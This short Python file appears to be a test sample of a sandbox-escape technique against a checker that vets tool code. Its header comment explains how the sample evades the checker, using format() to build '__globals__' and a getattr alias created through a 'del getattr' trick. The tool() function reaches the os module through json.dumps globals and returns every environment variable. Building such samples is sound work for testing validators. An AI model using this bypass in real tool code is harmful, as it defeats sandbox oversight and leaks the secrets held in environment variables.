# family: computed
# Escape: format("globals", "_^11") centres the word in underscores -> "__globals__"; the builtin format() is
# not folded. The getattr alias passes because "try: del getattr" binds the name at module level.
import json

try:
    del getattr
except NameError:
    pass
take = getattr


def tool() -> dict:
    space = take(json.dumps, format("globals", "_^11"))
    return dict(space["codecs"].sys.modules["os"].environ)
